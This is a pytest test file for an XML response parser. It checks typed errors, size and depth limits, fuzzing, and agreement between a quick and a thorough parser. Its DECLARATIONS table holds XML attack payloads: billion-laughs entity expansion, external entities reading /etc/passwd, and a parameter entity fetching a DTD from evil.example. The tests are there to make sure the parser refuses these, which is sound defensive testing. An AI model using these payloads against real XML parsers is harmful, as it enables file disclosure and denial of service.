"""XML in, dictionary or one typed error out."""

import json
import random
import tracemalloc
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tencent_ci_async import UnreadableAnswerError
from tencent_ci_async._xml import (
    MAX_ATTRIBUTES,
    MAX_DEPTH,
    MAX_NODES,
    MAX_TEXT_LENGTH,
    parse_document,
    parse_quickly,
    parse_thoroughly,
)

GOOD = b"""<?xml version="1.0" encoding="utf-8"?>
<Response xmlns="urn:x"><!-- a remark -->
<JobsDetail kind="a"><JobId>j1</JobId><Message/><Tag>&lt;&#228;&gt;</Tag></JobsDetail>
<JobsDetail><JobId><![CDATA[j2]]></JobId></JobsDetail><NextToken>  7 </NextToken></Response>"""


def test_a_document_becomes_a_dictionary():
    """Repeated elements are a list, empty ones None, attributes ignored, blanks at the ends dropped."""
    document = parse_document(GOOD)
    assert document.root == "Response"
    assert document.children == {
        "JobsDetail": [{"JobId": "j1", "Message": None, "Tag": "<ä>"}, {"JobId": "j2"}],
        "NextToken": "7",
    }


@pytest.mark.parametrize("body", [b"<Response/>", b"<Response></Response>", b"<Response>  </Response>"])
def test_an_empty_root_has_no_children(body):
    assert parse_document(body) == ("Response", {})


def test_text_alone_is_kept():
    assert parse_document(b"<Error>so</Error>") == ("Error", {"#text": "so"})


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "latin-1"])
def test_encodings_that_the_declaration_names(encoding):
    name = {"utf-8-sig": "utf-8", "latin-1": "iso-8859-1"}.get(encoding, encoding)
    body = f'<?xml version="1.0" encoding="{name}"?><R><a>ä</a></R>'.encode(encoding)
    assert parse_document(body).children == {"a": "ä"}


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"   ",
        b"text",
        b"<a>",
        b"<a></b>",
        b"<a/><b/>",
        b"\x00\x01",
        b"<a>&nbsp;</a>",
        b'<?xml version="1.0" encoding="klingon"?><a/>',
        b'<?xml version="1.0" encoding="shift_jis"?><a>\x82</a>',
        b"<a>\xff</a>",
        b"{}",
        b"<html><body><p>Log in<br></body></html>",
        GOOD[:-20],
    ],
)
def test_what_is_no_document_is_refused(body):
    with pytest.raises(UnreadableAnswerError, match="not well-formed"):
        parse_document(body)


def test_a_refusal_is_short_however_long_the_name_of_an_encoding():
    with pytest.raises(UnreadableAnswerError, match="unknown encoding: x") as caught:
        parse_document(b'<?xml version="1.0" encoding="' + b"x" * 500_000 + b'"?><a/>')
    assert len(str(caught.value)) < 300


DECLARATIONS = {
    "plain": "<!DOCTYPE a><a/>",
    "entity": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
    "laughs": '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;"><!ENTITY d "&c;&c;">]><a>&d;</a>',
    "external": '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
    "external entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "parameter entity": '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/x.dtd"> %b;]><a/>',
}


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
@pytest.mark.parametrize("document", DECLARATIONS.values(), ids=DECLARATIONS.keys())
def test_document_type_declarations_are_refused(document, encoding):
    with pytest.raises(UnreadableAnswerError, match="declares a document type"):
        parse_document(document.encode(encoding))


def nested(depth):
    return b"<a>" * depth + b"</a>" * depth


@pytest.mark.parametrize("padding", [b"", b"<!--" + b" " * MAX_TEXT_LENGTH + b"-->"], ids=["short", "long"])
def test_depth_is_bounded(padding):
    assert parse_document(padding + nested(MAX_DEPTH)).root == "a"
    with pytest.raises(UnreadableAnswerError, match="nested deeper than 64"):
        parse_document(padding + nested(MAX_DEPTH + 1))


@pytest.mark.parametrize("padding", [b"", b"<!--" + b" " * MAX_TEXT_LENGTH + b"-->"], ids=["short", "long"])
def test_depth_is_counted_down_exactly(padding):
    """What has been closed counts no more, and what is still open counts on."""
    opened = MAX_DEPTH // 2

    def branched(depth):
        leaves = b"<x><y/></x>" * 3
        return padding + b"<a>" * opened + leaves + nested(depth - opened) + b"</a>" * opened

    assert parse_document(branched(MAX_DEPTH)).root == "a"
    with pytest.raises(UnreadableAnswerError, match="nested deeper than 64"):
        parse_document(branched(MAX_DEPTH + 1))


def test_a_very_deep_document_is_refused_at_once():
    """A million levels cost no more than the sixty-five that are read."""
    body = b"<a>" * 1_000_000
    tracemalloc.start()
    with pytest.raises(UnreadableAnswerError):
        parse_document(body)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 2 * len(body)


def test_siblings_do_not_count_as_depth():
    assert parse_document(b"<r>" + b"<a><b/></a>" * 500 + b"</r>").children["a"][499] == {"b": None}


def test_the_number_of_elements_is_bounded():
    assert len(parse_document(b"<r>" + b"<a/>" * (MAX_NODES - 1) + b"</r>").children["a"]) == MAX_NODES - 1
    # Twice as many tags as elements: it is elements that count.
    assert len(parse_document(b"<r>" + b"<a></a>" * 101_000 + b"</r>").children["a"]) == 101_000
    with pytest.raises(UnreadableAnswerError, match="more than 200000 elements"):
        parse_document(b"<r>" + b"<a/>" * MAX_NODES + b"</r>")


def test_the_number_of_attributes_is_bounded():
    def element(count):
        return b"<a " + b" ".join(b"x%d=''" % number for number in range(count)) + b"/>"

    assert parse_document(element(MAX_ATTRIBUTES)).root == "a"
    assert parse_document(element(MAX_ATTRIBUTES) + b" " * MAX_TEXT_LENGTH).root == "a"
    with pytest.raises(UnreadableAnswerError, match="more than 10000 attributes"):
        parse_document(element(MAX_ATTRIBUTES + 1) + b" " * MAX_TEXT_LENGTH)
    with pytest.raises(UnreadableAnswerError, match="more than 10000 attributes"):
        parse_document(element(MAX_ATTRIBUTES + 1))


def test_the_length_of_a_text_is_bounded():
    assert (
        parse_document(b"<a>" + b"x" * MAX_TEXT_LENGTH + b"</a>").children["#text"] == "x" * MAX_TEXT_LENGTH
    )
    for body in (b"<a>%s</a>", b"<r><b>1</b><b>%s</b></r>", b"<r><%s/></r>"):
        with pytest.raises(UnreadableAnswerError, match="longer than 1000000"):
            parse_document(body % (b"x" * (MAX_TEXT_LENGTH + 1)))


def mutated(random_source, body):
    data = bytearray(body)
    for _ in range(random_source.randint(1, 6)):
        place = random_source.randrange(len(data))
        action = random_source.randrange(4)
        if action == 0:
            data[place] = random_source.randrange(256)
        elif action == 1:
            del data[place : place + random_source.randrange(1, 20)]
        elif action == 2:
            data[place:place] = random_source.choice(
                [b"<", b">", b"&", b"]]>", b"<!DOCTYPE a>", b"<a>", b"\xff\xfe"]
            )
        else:
            other = random_source.randrange(len(data))
            data[place:place] = data[other : other + 30]
        if not data:
            data = bytearray(b"<")
    return bytes(data)


def test_nothing_but_typed_errors_comes_out_of_mutated_documents():
    """Five thousand damaged documents: each is read, or refused with our error."""
    source = random.Random(20_190_707)
    refused = 0
    for _ in range(5_000):
        try:
            parse_document(mutated(source, GOOD))
        except UnreadableAnswerError:
            refused += 1
    assert 2_000 < refused < 5_000


# --- The short way and the thorough one ---------------------------------------------------------------

ANSWERS = sorted((Path(__file__).parent / "data" / "answers").glob("*/body.xml"))


def outcome(parse, body):
    """What a parser makes of a body: the dictionary with the order of its keys, or that it refuses."""
    try:
        return json.dumps(parse(body))
    except Exception as error:  # noqa: BLE001 - whatever it is, the other must refuse as well
        return f"refused: {type(error).__name__ in ('ExpatError', '_LimitError') or type(error)}"


@pytest.mark.parametrize("path", ANSWERS, ids=lambda path: path.parent.name)
def test_both_ways_lead_to_the_same_dictionary(path):
    body = path.read_bytes()
    assert outcome(parse_quickly, body) == outcome(parse_thoroughly, body)
    assert not outcome(parse_quickly, body).startswith("refused")


def generated(source, depth=0):
    """A random element: nested, repeated, mixed with text, comments, CDATA and instructions."""
    name = source.choice(["a", "b", "c", "Job-Id", "_x", "ä", "n:s"])
    attributes = source.choice(["", "", "", " k='v'", " k='&lt;' l=\"1\""])
    parts = []
    for _ in range(source.randrange(5 if depth < 5 else 2)):
        kind = source.randrange(9)
        if kind < 4:
            parts.append(generated(source, depth + 1))
        else:
            parts.append(
                source.choice(
                    [
                        "text",
                        "  ",
                        "\n\t",
                        " padded ",
                        "&amp;&#228;",
                        "<![CDATA[<x> ]]>",
                        "<!-- c -->",
                        "<?p i?>",
                        "ö😀",
                    ]
                )
            )
    return f"<{name}{attributes}>{''.join(parts)}</{name}>" if parts else f"<{name}{attributes}/>"


def test_both_ways_lead_to_the_same_dictionary_for_generated_documents():
    """Five thousand documents of every shape, and as many damaged ones."""
    source = random.Random(1_250_000_000)
    refused = 0
    for _ in range(5_000):
        body = generated(source).encode()
        assert outcome(parse_quickly, body) == outcome(parse_thoroughly, body), body
        assert not outcome(parse_quickly, body).startswith("refused")
        damaged = mutated(source, body)
        quick = outcome(parse_quickly, damaged)
        assert quick == outcome(parse_thoroughly, damaged), damaged
        refused += quick.startswith("refused")
    assert 1_000 < refused < 5_000


@given(st.binary(max_size=200))
def test_any_bytes_are_a_document_or_a_typed_error(body):
    try:
        document = parse_document(body)
    except UnreadableAnswerError as error:
        assert error.__cause__ is None
    else:
        assert document.root
